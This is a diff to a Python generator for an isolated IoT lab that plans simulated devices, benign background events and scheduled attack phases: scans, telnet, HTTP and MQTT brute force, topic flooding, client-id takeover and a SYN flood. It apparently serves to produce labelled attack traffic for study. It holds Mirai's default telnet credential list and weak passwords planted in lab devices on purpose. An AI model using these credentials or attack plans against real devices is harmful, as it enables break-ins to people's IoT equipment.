@@ -30,6 +30,7 @@ import secrets
 import shutil
 import signal
 import socket
+import string
 import subprocess
 import sys
 import tempfile
@@ -38,8 +39,6 @@ import time
 
 PREFIX = "swlab"
 STATE_DIR = "/run/swlab"
-SUBNET = "10.77.0"
-MAC_PREFIX = "02:77:00:00:00"
 BROKER_PORT = 1883
 COAP_PORT = 5683
 
@@ -58,7 +57,10 @@ PHASE_BUDGET = {
     "mirai_telnet_login": 13.0,
     "lateral_movement": 12.0,
     "syn_flood_hping3": 6.0,
-    "device_silent": 6.0,
+    # An outage, not a reboot: the irregular reboots (REBOOT_SILENCE) are off
+    # the wire for at most 10 s, and a sensor publishes every 3-14 s, so a
+    # silence must last several of its periods to be told from either.
+    "device_silent": 50.0,
 }
 ALL_PHASES = list(PHASE_BUDGET)
 PHASE_TOOL = {
@@ -91,23 +93,50 @@ WARMUP_MIN = 18.0
 TAIL_MIN = 18.0
 GAP_MIN = 1.5
 
-# Mirai's built-in dictionary (public knowledge; only non-root pairs are
-# given to lab devices, root stays locked in the isolated login config).
-MIRAI_DEFAULTS_ROOT = [("root", "xc3511"), ("root", "vizxv"), ("root", "admin"),
-                       ("root", "888888"), ("root", "xmhdipc"), ("root", "default"),
-                       ("root", "juantech"), ("root", "123456"), ("root", "54321")]
-MIRAI_DEFAULTS_USER = [("admin", "admin"), ("support", "support"), ("user", "user"),
-                       ("guest", "guest"), ("ubnt", "ubnt"), ("tech", "tech"),
-                       ("service", "service")]
+# Benign irregular events: (first occurrence drawn in [lo, hi] s, then gaps
+# drawn in [lo, hi] s). The hub's CoAP discovery happens once, at its start-up.
+IRREGULAR_FIRST = (8.0, 60.0)
+IRREGULAR_GAP = {
+    "telnet_login_mistyped": (240.0, 600.0),
+    "firmware_download": (300.0, 700.0),
+    "device_reboot": (180.0, 480.0),
+}
+IRREGULAR_TOOL = {
+    "coap_discovery": "coap-client",
+    "telnet_login_mistyped": "busybox-telnet",
+    "firmware_download": "curl",
+    "device_reboot": "ip-link;ss;busybox-arping;mosquitto_pub",
+}
+DISCOVERY_SECONDS = 0.3      # one GET /.well-known/core and its answer
+MISTYPE_SECONDS = 16.0       # a mistyped-then-good login session, end to end
+FW_DOWNLOAD_SECONDS = 4.0
+REBOOT_SILENCE = (4.0, 10.0)  # seconds a rebooting device is off the wire
+REBOOT_BOOT = 2.0            # link up to software running (bridge port forwarding, ARP announce)
+REBOOT_RECONNECT = 3.0       # seconds the window still covers once the software runs again
+PHASE_MARGIN_BEFORE = 3.0    # no irregular event this close before a phase ...
+PHASE_MARGIN_AFTER = 6.0     # ... or after its budget ends
+END_MARGIN = 3.0
+
+# Mirai's built-in dictionary (public knowledge). A camera's telnet account is
+# one of these pairs; an account named root is an unprivileged lab account in
+# the device's isolated login config (the real uid 0 stays locked).
+MIRAI_DEFAULTS = [("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"),
+                  ("root", "888888"), ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"),
+                  ("root", "123456"), ("root", "54321"), ("support", "support"), ("admin", "1234"),
+                  ("user", "user"), ("guest", "guest"), ("ubnt", "ubnt"), ("tech", "tech"),
+                  ("service", "service"), ("admin", "password")]
 WEAK_PASSWORDS = ["plug1234", "password1", "iot2020", "smartplug", "letmein1", "qwerty12"]
 WEB_WEAK_PASSWORDS = ["admin123", "camera1", "12345678", "pass1234"]
 COMMON_GUESSES = ["123456", "password", "admin", "12345", "1234", "root", "test",
                   "guest", "qwerty", "111111", "changeme", "default", "iot", "raspberry",
                   "letmein", "abc123"]
+# MQTT user names the brute-force phase tries before the plug's own user: no
+# lab account may be called like this.
+BRUTE_WRONG_USERS = ("admin", "mqtt")
 
 KINDS = {
     "cloud": "MQTT broker (mosquitto) + firmware update server (nginx)",
-    "hub": "home gateway: MQTT subscriber home/#, CoAP + HTTP poller, plug commands",
+    "hub": "home gateway: MQTT subscriber to the whole topic tree, CoAP + HTTP poller, plug commands",
     "ops": "operator workstation: telnet admin sessions to the router",
     "temp": "temperature sensor: MQTT QoS0 over one persistent connection",
     "hum": "humidity sensor: new MQTT connection per reading, QoS1",
@@ -118,6 +147,108 @@ KINDS = {
     "rtr": "router: inetutils telnetd + /bin/login (operator account)",
     "atk": "attacker",
 }
+MQTT_KINDS = ("hub", "temp", "hum", "plug", "thermo")
+
+# IEEE MA-L assignments (OUI -> organisation as registered), every one checked
+# against Debian's ieee-data (/usr/share/ieee-data/oui.csv) by test_lab.py.
+OUI_ORG = {
+    "240AC4": "Espressif Inc.", "246F28": "Espressif Inc.", "30AEA4": "Espressif Inc.",
+    "84F3EB": "Espressif Inc.", "A4CF12": "Espressif Inc.", "7C9EBD": "Espressif Inc.",
+    "1C90FF": "Tuya Smart Inc.", "D4A651": "Tuya Smart Inc.", "10D561": "Tuya Smart Inc.",
+    "50C7BF": "TP-LINK TECHNOLOGIES CO.,LTD.", "603A7C": "TP-LINK TECHNOLOGIES CO.,LTD.",
+    "B0BE76": "TP-LINK TECHNOLOGIES CO.,LTD.", "98DAC4": "TP-LINK TECHNOLOGIES CO.,LTD.",
+    "4447CC": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
+    "5803FB": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
+    "C056E3": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
+    "BCAD28": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
+    "08EDED": "Zhejiang Dahua Technology Co., Ltd.", "3CEF8C": "Zhejiang Dahua Technology Co., Ltd.",
+    "E0508B": "Zhejiang Dahua Technology Co., Ltd.", "74C929": "Zhejiang Dahua Technology Co., Ltd.",
+    "7483C2": "Ubiquiti Networks Inc.", "F09FC2": "Ubiquiti Networks Inc.", "24A43C": "Ubiquiti Networks Inc.",
+    "000C42": "Routerboard.com", "4C5E0C": "Routerboard.com", "B869F4": "Routerboard.com",
+    "B827EB": "Raspberry Pi Foundation", "DCA632": "Raspberry Pi Trading Ltd",
+    "E45F01": "Raspberry Pi Trading Ltd", "28CDC1": "Raspberry Pi Trading Ltd",
+    "18B430": "Nest Labs Inc.", "641666": "Nest Labs Inc.",
+    "B82CA0": "Resideo", "48A2E6": "Resideo",
+    "98E743": "Dell Inc.", "F8BC12": "Dell Inc.", "D4BED9": "Dell Inc.", "B083FE": "Dell Inc.",
+    "A0369F": "Intel Corporate", "7C7A91": "Intel Corporate", "ACED5C": "Intel Corporate",
+    "9C7BEF": "Hewlett Packard", "48BA4E": "Hewlett Packard", "3024A9": "HP Inc.",
+    "001132": "Synology Incorporated", "9009D0": "Synology Incorporated",
+}
+VENDOR_OUIS = {
+    "espressif": ["240AC4", "246F28", "30AEA4", "84F3EB", "A4CF12", "7C9EBD"],
+    "tuya": ["1C90FF", "D4A651", "10D561"],
+    "tplink": ["50C7BF", "603A7C", "B0BE76", "98DAC4"],
+    "hikvision": ["4447CC", "5803FB", "C056E3", "BCAD28"],
+    "dahua": ["08EDED", "3CEF8C", "E0508B", "74C929"],
+    "ubiquiti": ["7483C2", "F09FC2", "24A43C"],
+    "mikrotik": ["000C42", "4C5E0C", "B869F4"],
+    "raspberrypi": ["B827EB", "DCA632", "E45F01", "28CDC1"],
+    "nest": ["18B430", "641666"],
+    "resideo": ["B82CA0", "48A2E6"],
+    "dell": ["98E743", "F8BC12", "D4BED9", "B083FE"],
+    "intel": ["A0369F", "7C7A91", "ACED5C"],
+    "hp": ["9C7BEF", "48BA4E", "3024A9"],
+    "synology": ["001132", "9009D0"],
+}
+KIND_VENDORS = {
+    "temp": ["espressif", "tuya"], "hum": ["espressif", "tuya"], "soil": ["espressif", "tuya"],
+    "plug": ["espressif", "tuya", "tplink"], "thermo": ["nest", "resideo", "espressif"],
+    "cam": ["hikvision", "dahua"], "rtr": ["tplink", "ubiquiti", "mikrotik"], "hub": ["raspberrypi"],
+    "ops": ["dell", "intel", "hp"], "atk": ["dell", "intel", "hp"], "cloud": ["synology", "dell"],
+}
+
+# Vocabulary the names, topics, paths and banners are drawn from.
+ROOMS = ["kitchen", "livingroom", "bedroom", "garage", "office", "hall", "attic", "cellar", "porch",
+         "garden", "study", "nursery", "bath", "greenhouse", "workshop", "loft"]
+KIND_WORDS = {
+    "temp": ["temp", "thermometer", "th", "dht22", "ds18b20", "climate"],
+    "hum": ["hum", "humidity", "hygro", "rh", "sht31", "bme280"],
+    "plug": ["plug", "socket", "outlet", "switch", "relay", "powerplug"],
+    "thermo": ["thermostat", "tstat", "hvac", "heating", "radiator"],
+    "hub": ["hub", "gateway", "homebridge", "bridge", "controller", "homeserver"],
+    "cam": ["ipcam", "cam", "cctv", "dvr", "doorcam", "nvr"],
+    "rtr": ["router", "gw", "edge", "core", "ap"],
+}
+CLIENT_ID_WORDS = ["esp32", "esp8266", "tasmota", "node", "dev", "mcu", "iot"]
+TOPIC_ROOTS = ["home", "house", "myhome", "smarthome", "iot", "devices", "sensors", "site/{site}",
+               "bldg{n}", "flat{n}"]
+SITES = ["north", "annex", "lab", "depot", "cabin", "farm", "studio", "west"]
+TOPIC_LAYOUTS = ["device", "room", "metric"]   # root/dev/leaf, root/room/dev/leaf, root/leaf/dev
+TOPIC_LEAVES = {
+    "temp": ["temp", "temperature", "sensor/temperature", "state/temp", "t"],
+    "hum": ["humidity", "hum", "sensor/humidity", "rh"],
+    "power": ["power", "energy/power", "sensor/power", "watts"],
+    "thermo": ["status", "state", "climate", "telemetry"],
+    "cmd": ["cmd", "set", "command", "relay/0/command", "switch/set"],
+}
+PAYLOADS = {
+    "temp": ['{"t":%.1f}', '{"temperature":%.1f}', '%.1f', '{"temp":%.2f,"unit":"C"}'],
+    "hum": ['{"rh":%d}', '{"humidity":%d}', '%d', '{"hum":%d,"unit":"%%"}'],
+    "power": ['{"w":%.1f}', '{"power":%.1f}', '%.1f', '{"ENERGY":{"Power":%.0f}}'],
+    "thermo": ['{"t":%.1f,"set":%.1f}', '{"temperature":%.1f,"setpoint":%.1f}',
+               '{"current":%.1f,"target":%.1f,"mode":"heat"}'],
+}
+COMMAND_PAYLOADS = [("ON", "OFF"), ("on", "off"), ("1", "0"), ('{"state":"ON"}', '{"state":"OFF"}')]
+KEEPALIVES = [15, 20, 30, 45, 60, 90, 120]   # seconds; the broker's max_keepalive is 120
+WEB_USERS = ["admin", "admin", "admin", "user", "operator", "viewer"]
+ADMIN_PATHS = ["/admin/", "/cgi-bin/", "/config/", "/settings/", "/setup/", "/web/", "/manage/"]
+BUSYBOX_HTTPD_SPECIAL = ("/cgi-bin/",)   # busybox httpd runs files there as CGI
+STATUS_FILES = ["status.json", "info.json", "device.json", "state.json"]
+SNAPSHOT_FILES = ["snapshot.jpg", "snap.jpg", "image.jpg", "still.jpg", "capture.jpg"]
+OPERATOR_USERS = ["netadmin", "noc", "ops", "sysop", "operator", "itadmin", "jdoe", "mbauer", "akim"]
+FW_ROOTS = ["/fw", "/firmware", "/ota", "/updates", "/dl/firmware"]
+FW_MANIFESTS = ["latest.json", "version.json", "manifest.json", "ota.json"]
+FW_IMAGES = ["{model}_{version}.bin", "firmware-{version}.bin", "{model}-{version}.img", "update_{version}.pkg",
+             "firmware.bin"]
+FW_MODEL_PREFIXES = {"cam": ["IPC-", "DS-2CD", "NVC-", "HDW", "CAM-"], "thermo": ["TST-", "T", "THM-", "HVAC-"]}
+FW_SIZE = (256 * 1024, 768 * 1024)
+UPDATER_AGENTS = ["{model}-fw/{version}", "ota-client/{a}.{b}", "{model}/{version} (firmware updater)",
+                  "ESP32-http-Update", "uclient-fetch"]
+HUB_AGENTS = ["HomeHub/{a}.{b}.{c}", "hubd/{a}.{b}", "gateway-agent/{a}.{b}", "node-poller/{a}.{b}.{c}", None]
+CAM_ISSUES = ["{model} Network Camera\nfirmware {version}\n", "{hostname}\n", "\n{model}\n\n", ""]
+MOTDS = ["{model} firmware {version} -- authorised access only\n",
+         "Unauthorised access to this device is prohibited.\nAll activity is recorded.\n",
+         "\n  {hostname}  ({model})\n\n", ""]
 
 TOOLS = {  # binary -> Debian package
     "/usr/sbin/mosquitto": "mosquitto",
@@ -139,6 +270,8 @@ TOOLS = {  # binary -> Debian package
     "/usr/bin/unshare": "util-linux",
     "/bin/mount": "mount",
     "/sbin/ip": "iproute2",
+    "/bin/ss": "iproute2",
+    "/sbin/bridge": "iproute2",
 }
 
 
@@ -171,43 +304,240 @@ def parse_phases(spec):
     return list(dict.fromkeys(names))
 
 
+def stream(seed, aspect):
+    """An independent random stream per aspect of the plan (network, names,
+    periods, ...), so that drawing more of one aspect never shifts another."""
+    return random.Random("%s:%s" % (seed, aspect))
+
+
+def draw_subnet(rng):
+    """A private /24 (RFC 1918): from 10/8, 172.16/12 or 192.168/16."""
+    block = rng.choice(["10", "172", "192"])
+    if block == "10":
+        return "10.%d.%d" % (rng.randrange(256), rng.randrange(256))
+    if block == "172":
+        return "172.%d.%d" % (rng.randint(16, 31), rng.randrange(256))
+    return "192.168.%d" % rng.randrange(256)
+
+
+def draw_network(seed, hosts):
+    """Subnet, host numbers (unique, never .0 or .255) and MAC addresses: a real
+    vendor OUI for the device's kind, the lower three bytes drawn (unique)."""
+    rng = stream(seed, "network")
+    prefix = draw_subnet(rng)
+    numbers = rng.sample(range(1, 255), len(hosts))
+    macs = set()
+    for h, n in zip(hosts, numbers):
+        h["ip"] = "%s.%d" % (prefix, n)
+        vendor = rng.choice(KIND_VENDORS[h["kind"]])
+        oui = rng.choice(VENDOR_OUIS[vendor])
+        while True:
+            low = rng.getrandbits(24)
+            mac = ":".join([oui[0:2], oui[2:4], oui[4:6]] + ["%02x" % ((low >> s) & 0xFF) for s in (16, 8, 0)]).lower()
+            if mac not in macs:
+                break
+        macs.add(mac)
+        h["mac"] = mac
+        h["vendor"] = OUI_ORG[oui]
+    return prefix
+
+
+def _unique(rng, taken, make):
+    """make(rng), with a drawn suffix while the name is already taken."""
+    name = make(rng)
+    while name in taken:
+        name = "%s-%02x" % (make(rng), rng.getrandbits(8))
+    taken.add(name)
+    return name
+
+
+def _mac_tail(h, nbytes, upper):
+    tail = "".join(h["mac"].split(":")[6 - nbytes:])
+    return tail.upper() if upper else tail
+
+
+def draw_identities(seed, hosts, by_kind):
+    """What the devices show on the wire: device names, MQTT users, client ids,
+    topics and payloads, web paths and realms, user agents, hostnames, banners,
+    firmware file names."""
+    rng = stream(seed, "identity")
+    wire_names, users, client_ids = set(BRUTE_WRONG_USERS), set(BRUTE_WRONG_USERS), set()
+    root = rng.choice(TOPIC_ROOTS).format(site=rng.choice(SITES), n=rng.randint(1, 40))
+    layout = rng.choice(TOPIC_LAYOUTS)
+    leaves = {k: rng.choice(v) for k, v in sorted(TOPIC_LEAVES.items())}
+    user_style = rng.choice(["wire", "mac", "word"])
+    firmware = {}
+    fw_root = rng.choice(FW_ROOTS)
+    fw_manifest = rng.choice(FW_MANIFESTS)
+    fw_image = rng.choice(FW_IMAGES)
+    for kind in ("cam", "thermo"):
+        model = rng.choice(FW_MODEL_PREFIXES[kind]) + str(rng.randint(100, 9999))
+        version = "%d.%d.%d" % (rng.randint(1, 5), rng.randint(0, 19), rng.randint(0, 99))
+        d = "%s/%s" % (fw_root, model.lower())
+        firmware[kind] = dict(model=model, version=version, manifest="%s/%s" % (d, fw_manifest),
+                              image="%s/%s" % (d, fw_image.format(model=model.lower(), version=version)),
+                              size=rng.randint(*FW_SIZE))
+
+    def name_device(h):
+        """The device's own name, and the room it is in."""
+        words = KIND_WORDS[h["kind"]]
+        room = rng.choice(ROOMS)
+        style = rng.randrange(5)
+        if style == 0:
+            make = lambda r: "%s-%s" % (r.choice(words), room)  # noqa: E731
+        elif style == 1:
+            make = lambda r: "%s-%s" % (room, r.choice(words))  # noqa: E731
+        elif style == 2:
+            make = lambda r: "%s_%s" % (r.choice(words), _mac_tail(h, 3, True))  # noqa: E731
+        elif style == 3:
+            make = lambda r: "%s-%s" % (r.choice(words), _mac_tail(h, 2, False))  # noqa: E731
+        else:
+            make = lambda r: "%s%d" % (r.choice(words), r.randint(1, 99))  # noqa: E731
+        h["wire_name"] = _unique(rng, wire_names, make)
+        return room
+
+    def topic(h, leaf):
+        if layout == "device":
+            return "%s/%s/%s" % (root, h["wire_name"], leaf)
+        if layout == "room":
+            return "%s/%s/%s/%s" % (root, h["room"], h["wire_name"], leaf)
+        return "%s/%s/%s" % (root, leaf, h["wire_name"])
+
+    for h in hosts:
+        k = h["kind"]
+        if k in KIND_WORDS:
+            room = name_device(h)
+            if k in ("temp", "hum", "plug", "thermo"):
+                h["room"] = room
+        if k in MQTT_KINDS:
+            if user_style == "wire":
+                h["mqtt_user"] = _unique(rng, users, lambda r: h["wire_name"])
+            elif user_style == "mac":
+                h["mqtt_user"] = _unique(rng, users, lambda r: "dev-%s" % _mac_tail(h, 3, False))
+            else:
+                h["mqtt_user"] = _unique(rng, users, lambda r: "%s_%04x" % (r.choice(KIND_WORDS[k]),
+                                                                            r.getrandbits(16)))
+            # client ids: the device name, with a suffix, the chip and MAC (ESP/Tasmota
+            # firmware style; not for the hub), or a random library-made id
+            style = rng.randrange(4 if k != "hub" else 3)
+            if style == 0:
+                cid = h["wire_name"]
+            elif style == 1:
+                cid = "%s-%04x" % (h["wire_name"], rng.getrandbits(16))
+            elif style == 2:
+                cid = "mqtt-%08x" % rng.getrandbits(32)
+            else:
+                cid = "%s_%s" % (rng.choice(CLIENT_ID_WORDS), _mac_tail(h, 3, True))
+            h["client_id"] = _unique(rng, client_ids, lambda r: cid)
+        if k == "temp":
+            h["topic"] = topic(h, leaves["temp"])
+            h["payload"] = rng.choice(PAYLOADS["temp"])
+        elif k == "hum":
+            h["topic"] = topic(h, leaves["hum"])
+            h["payload"] = rng.choice(PAYLOADS["hum"])
+            # one connection per reading: the same client id each time, or a fresh suffix
+            h["client_id_suffix"] = rng.random() < 0.5
+        elif k == "plug":
+            h["topic"] = topic(h, leaves["power"])
+            h["cmd_topic"] = topic(h, leaves["cmd"])
+            h["payload"] = rng.choice(PAYLOADS["power"])
+            h["cmd_client_id"] = _unique(rng, client_ids, lambda r: "%s-cmd%d" % (h["client_id"], r.randint(0, 9)))
+        elif k == "thermo":
+            h["topic"] = topic(h, leaves["thermo"])
+            h["payload"] = rng.choice(PAYLOADS["thermo"])
+            h["setpoint"] = rng.choice([19.0, 19.5, 20.0, 20.5, 21.0, 21.5, 22.0])
+        elif k == "hub":
+            h["cmd_client_id"] = _unique(rng, client_ids, lambda r: "%s-pub%d" % (h["client_id"], r.randint(0, 9)))
+            ua = rng.choice(HUB_AGENTS)
+            h["user_agent"] = ua and ua.format(a=rng.randint(0, 4), b=rng.randint(0, 20), c=rng.randint(0, 9))
+        if k in ("cam", "thermo"):
+            fw = firmware[k]
+            h["firmware"] = k
+            h["user_agent"] = rng.choice(UPDATER_AGENTS).format(
+                model=fw["model"], version=fw["version"], a=rng.randint(1, 3), b=rng.randint(0, 9))
+            paths = [p for p in ADMIN_PATHS if k == "cam" or p not in BUSYBOX_HTTPD_SPECIAL]
+            h["web"] = dict(user=rng.choice(WEB_USERS), path=rng.choice(paths), status=rng.choice(STATUS_FILES))
+            if k == "cam":
+                h["web"]["snapshot"] = rng.choice(SNAPSHOT_FILES)
+                h["web"]["server_tokens"] = rng.random() < 0.5
+                h["web"]["title"] = "%s %s" % (fw["model"], h["wire_name"])
+            h["web"]["realm"] = rng.choice([fw["model"], h["wire_name"], "Login to %s" % fw["model"],
+                                           "Restricted", "Web UI"])
+        if k in ("cam", "rtr"):
+            # hostname (the login prompt) and banners of its telnet service
+            h["hostname"] = h["wire_name"] if rng.random() < 0.6 else \
+                "%s-%s" % (h["wire_name"].split("-")[0].split("_")[0], _mac_tail(h, 3, True))
+            model = firmware["cam"]["model"] if k == "cam" else \
+                "%s%d" % (rng.choice(["AX", "RB", "ER-", "AC"]), rng.randint(100, 5000))
+            version = firmware["cam"]["version"] if k == "cam" else "%d.%d" % (rng.randint(1, 7), rng.randint(0, 30))
+            fill = dict(model=model, version=version, hostname=h["hostname"])
+            if k == "cam":
+                h["issue"] = rng.choice(CAM_ISSUES).format(**fill)
+            h["motd"] = rng.choice(MOTDS).format(**fill)
+    operator = rng.choice(OPERATOR_USERS)
+    command_payloads = rng.choice(COMMAND_PAYLOADS)
+    return dict(root=root, layout=layout, command_payloads=list(command_payloads)), firmware, operator
+
+
+def draw_periods(seed, hosts):
+    """Publish intervals, keepalives and polling intervals (seconds)."""
+    rng = stream(seed, "periods")
+    for h in hosts:
+        k = h["kind"]
+        if k == "temp":
+            h["period"] = round(rng.uniform(3.0, 10.0), 2)
+            h["qos"] = 0
+            h["keepalive"] = rng.choice(KEEPALIVES)
+        elif k == "hum":
+            h["period"] = round(rng.uniform(7.0, 14.0), 2)
+            h["qos"] = 1
+            h["keepalive"] = rng.choice(KEEPALIVES)
+        elif k == "plug":
+            h["period"] = round(rng.uniform(5.0, 15.0), 2)
+            h["qos"] = 1
+            h["keepalive"] = rng.choice(KEEPALIVES)
+            h["cmd_keepalive"] = rng.choice(KEEPALIVES)
+        elif k == "thermo":
+            h["period"] = round(rng.uniform(6.0, 15.0), 2)
+            h["qos"] = 1
+            h["keepalive"] = rng.choice(KEEPALIVES)
+        elif k == "hub":
+            h["keepalive"] = rng.choice(KEEPALIVES)
+
+    def span(lo_min, lo_max, width_min, width_max):
+        lo = round(rng.uniform(lo_min, lo_max), 1)
+        return [lo, round(lo + rng.uniform(width_min, width_max), 1)]
+    polls = dict(coap_get=span(4.0, 9.0, 2.0, 6.0), http_cam=span(5.0, 10.0, 2.0, 5.0),
+                 http_thermo=span(10.0, 20.0, 3.0, 8.0))
+    events = dict(telnet_admin_login=span(30.0, 60.0, 20.0, 50.0), fw_update_check=span(25.0, 60.0, 15.0, 45.0),
+                  coap_observe=span(25.0, 50.0, 15.0, 40.0), mqtt_command=span(15.0, 30.0, 10.0, 30.0),
+                  coap_observe_secs=round(rng.uniform(5.0, 10.0), 1))
+    return polls, events
+
+
+def draw_credential_choices(seed, by_kind):
+    """Which weak or default credential each device has. Passwords never enter
+    the plan: the lab calls this again to configure the devices."""
+    rng = stream(seed, "credentials")
+    weak = {h["name"]: rng.choice(WEAK_PASSWORDS) for h in by_kind["plug"] if h.get("weak")}
+    cams = {h["name"]: dict(telnet=rng.choice(MIRAI_DEFAULTS), web=rng.choice(WEB_WEAK_PASSWORDS))
+            for h in by_kind["cam"]}
+    return weak, cams
+
+
 def build_hosts(rng):
     counts = {"temp": rng.randint(1, 3), "hum": rng.randint(1, 2), "plug": rng.randint(1, 2),
               "soil": rng.randint(1, 2), "cam": rng.randint(1, 2), "thermo": rng.randint(1, 2)}
-    octets = rng.sample(range(20, 200), sum(counts.values()) + 1)
-    hosts = [dict(name="cloud", kind="cloud", octet=10), dict(name="hub", kind="hub", octet=2),
-             dict(name="ops", kind="ops", octet=3)]
-    i = 0
+    hosts = [dict(name="cloud", kind="cloud"), dict(name="hub", kind="hub"), dict(name="ops", kind="ops")]
     for kind in ("temp", "hum", "plug", "soil", "cam", "thermo"):
         for n in range(counts[kind]):
-            hosts.append(dict(name="%s%d" % (kind, n + 1), kind=kind, octet=octets[i]))
-            i += 1
-    hosts.append(dict(name="rtr1", kind="rtr", octet=octets[i]))
-    hosts.append(dict(name="atk", kind="atk", octet=rng.randint(200, 250)))
+            hosts.append(dict(name="%s%d" % (kind, n + 1), kind=kind))
+    hosts.append(dict(name="rtr1", kind="rtr"))
+    hosts.append(dict(name="atk", kind="atk"))
     for h in hosts:
-        h["ip"] = "%s.%d" % (SUBNET, h["octet"])
-        h["mac"] = "%s:%02x" % (MAC_PREFIX, h["octet"])
         h["role"] = KINDS[h["kind"]]
-        if h["kind"] == "temp":
-            h["period"] = round(rng.uniform(4.0, 7.0), 2)
-            h["qos"] = 0
-            h["keepalive"] = rng.choice([20, 30])
-        elif h["kind"] == "hum":
-            h["period"] = round(rng.uniform(8.0, 12.0), 2)
-            h["qos"] = 1
-        elif h["kind"] == "plug":
-            h["period"] = round(rng.uniform(6.0, 12.0), 2)
-            h["qos"] = 1
-        elif h["kind"] == "thermo":
-            h["period"] = round(rng.uniform(8.0, 14.0), 2)
-            h["qos"] = 1
     # one plug has a weak MQTT password and an over-broad ACL (the way in)
-    plugs = [h for h in hosts if h["kind"] == "plug"]
-    rng.choice(plugs)["weak"] = True
-    for h in hosts:
-        if h["kind"] == "cam":
-            h["telnet_default_index"] = rng.randrange(len(MIRAI_DEFAULTS_USER))
-            h["web_password_index"] = rng.randrange(len(WEB_WEAK_PASSWORDS))
+    rng.choice([h for h in hosts if h["kind"] == "plug"])["weak"] = True
     return hosts
 
 
@@ -221,6 +551,58 @@ def _events(rng, kind, start, end, lo, hi, forced, src, dst):
     return [dict(t=round(x, 2), kind=kind, src=src, dst=dst) for x in sorted(times) if start <= x < end]
 
 
+def free_start(t, length, busy, end):
+    """The first start >= t of a [start, start+length] span that overlaps no busy
+    interval and ends by `end`; None if there is none."""
+    moved = True
+    while moved:
+        moved = False
+        for s, e in busy:
+            if t < e and t + length > s:
+                t, moved = e, True
+    return t if t + length <= end else None
+
+
+def plan_irregular(seed, duration, phases, by_kind):
+    """Benign irregular events, outside every phase window (with margins)."""
+    rng = stream(seed, "irregular")
+    broker, hub = by_kind["cloud"][0], by_kind["hub"][0]
+    ev = []
+    t = rng.uniform(0.2, 0.8)   # the hub's start-up
+    for soil in by_kind["soil"]:
+        ev.append(dict(t=round(t, 2), seconds=DISCOVERY_SECONDS, kind="coap_discovery", src=hub["ip"],
+                       dst=soil["ip"], params=dict(path="/.well-known/core")))
+        t += DISCOVERY_SECONDS
+    busy = [(p["start_offset"] - PHASE_MARGIN_BEFORE, p["start_offset"] + p["budget"] + PHASE_MARGIN_AFTER)
+            for p in phases]
+    end = duration - END_MARGIN
+    for kind in sorted(IRREGULAR_GAP):
+        lo, hi = IRREGULAR_GAP[kind]
+        t = rng.uniform(*IRREGULAR_FIRST)
+        while t < end:
+            if kind == "telnet_login_mistyped":
+                length = MISTYPE_SECONDS
+                src, dst, params = by_kind["ops"][0], by_kind["rtr"][0], dict(commands=["uptime", "exit"])
+            elif kind == "firmware_download":
+                length = FW_DOWNLOAD_SECONDS
+                src = rng.choice(by_kind["cam"] + by_kind["thermo"])
+                dst = broker
+                params = dict(device=src["name"], firmware=src["firmware"])
+            else:
+                silence = round(rng.uniform(*REBOOT_SILENCE), 1)
+                length = silence + REBOOT_BOOT + REBOOT_RECONNECT
+                src = rng.choice(by_kind["temp"] + by_kind["plug"])
+                dst = broker
+                params = dict(device=src["name"], silence=silence, client_id=src["client_id"])
+            start = free_start(t, length, busy, end)
+            if start is None:
+                break
+            ev.append(dict(t=round(start, 2), seconds=length, kind=kind, src=src["ip"], dst=dst["ip"], params=params))
+            t = start + length + rng.uniform(lo, hi)
+    ev.sort(key=lambda e: (e["t"], e["kind"], e["src"], e["dst"]))
+    return ev
+
+
 def make_plan(seed, duration, phases):
     rng = random.Random(seed)
     hosts = build_hosts(rng)
@@ -228,6 +610,13 @@ def make_plan(seed, duration, phases):
     for h in hosts:
         by_kind.setdefault(h["kind"], []).append(h)
     first = {k: v[0] for k, v in by_kind.items()}
+    net = draw_network(seed, hosts)
+    subnet = "%s.0/24" % net
+    mqtt, firmware, operator = draw_identities(seed, hosts, by_kind)
+    polls, intervals = draw_periods(seed, hosts)
+    weak_pw, cam_creds = draw_credential_choices(seed, by_kind)
+    for h in by_kind["cam"]:
+        h["telnet_user"] = cam_creds[h["name"]]["telnet"][0]
 
     order = [p for p in ALL_PHASES if p in phases]
     rng.shuffle(order)
@@ -257,7 +646,7 @@ def make_plan(seed, duration, phases):
         targets, params = [], {}
         attacker = atk["ip"]
         if name == "recon_nmap_syn_scan":
-            targets = ["%s.0/24" % SUBNET]
+            targets = [subnet]
             params = {"ports": NMAP_PORTS, "max_rate": NMAP_MAX_RATE}
         elif name == "telnet_bruteforce_hydra":
             tgt = rng.choice(cams)
@@ -266,24 +655,24 @@ def make_plan(seed, duration, phases):
         elif name == "http_basic_auth_bruteforce":
             tgt = rng.choice(cams)
             targets = [tgt["ip"]]
-            params = {"target": tgt["name"], "path": "/admin/"}
+            params = {"target": tgt["name"], "path": tgt["web"]["path"], "user": tgt["web"]["user"]}
         elif name == "mqtt_bruteforce":
             targets = [broker["ip"]]
-            params = {"user": weak_plug["name"], "guesses": MQTT_BRUTE_GUESSES,
-                      "success_at": MQTT_BRUTE_GUESSES - rng.randint(0, 3)}
+            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "topic": weak_plug["topic"],
+                      "guesses": MQTT_BRUTE_GUESSES, "success_at": MQTT_BRUTE_GUESSES - rng.randint(0, 3)}
         elif name == "mqtt_wildcard_subscribe":
             targets = [broker["ip"]]
-            params = {"user": weak_plug["name"], "topics": ["#", "$SYS/#"]}
+            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "topics": ["#", "$SYS/#"]}
         elif name == "mqtt_publish_flood":
             victim = rng.choice(persistent)
             targets = [broker["ip"]]
-            params = {"user": weak_plug["name"], "messages": FLOOD_MESSAGES,
-                      "spoofed_topic": "home/%s/temp" % victim["name"]}
+            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "messages": FLOOD_MESSAGES,
+                      "spoofed_topic": victim["topic"]}
         elif name == "mqtt_clientid_takeover":
             victim = rng.choice(persistent)
             targets = [broker["ip"], victim["ip"]]
-            params = {"user": weak_plug["name"], "victim": victim["name"],
-                      "client_id": "sensor-%s" % victim["name"]}
+            params = {"plug": weak_plug["name"], "user": weak_plug["mqtt_user"], "victim": victim["name"],
+                      "client_id": victim["client_id"], "topic": victim["topic"]}
         elif name == "coap_discovery_tamper":
             tgt = rng.choice(by_kind["soil"])
             targets = [tgt["ip"]]
